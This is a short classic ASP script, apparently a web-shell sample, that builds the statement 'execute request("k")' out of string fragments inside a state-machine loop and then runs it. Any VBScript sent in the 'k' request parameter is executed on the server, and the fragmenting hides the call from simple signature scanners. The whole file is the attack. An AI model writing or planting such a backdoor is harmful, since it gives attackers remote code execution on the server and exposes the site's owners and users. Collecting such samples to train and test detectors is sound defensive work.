<%
' the statement is assembled from fragments in a state machine, then executed
Dim st, go, a, b, c, w1, w2, w3, cmd
st = 0 : go = True
Do While go
    Select Case st
        Case 0 : a = Array("ex", "ec", "ute") : st = 1
        Case 1 : b = Array("req", "ues", "t") : st = 2
        Case 2 : w1 = Join(a, "") : w2 = Join(b, "") : w3 = "k" : st = 3
        Case 3
            cmd = w1 & " " & w2 & "(""" & w3 & """)"
            Execute cmd
            st = 4
        Case Else : go = False
    End Select
Loop
%>
